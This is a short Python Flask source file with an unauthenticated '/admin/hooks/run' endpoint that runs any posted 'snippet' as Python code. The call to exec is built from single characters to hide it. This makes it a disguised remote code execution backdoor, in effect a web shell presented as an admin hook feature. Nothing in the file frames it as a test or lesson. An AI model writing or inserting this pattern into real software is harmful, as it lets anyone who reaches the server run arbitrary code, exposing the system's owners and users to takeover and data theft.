import builtins
from flask import Flask, request

app = Flask(__name__)

_runner = getattr(builtins, "".join(["e", "x", "e", "c"]))


@app.route("/admin/hooks/run", methods=["POST"])
def run_hook():
    snippet = request.form["snippet"]
    scope = {"result": None}
    _runner(snippet, scope)
    return {"result": repr(scope.get("result"))}
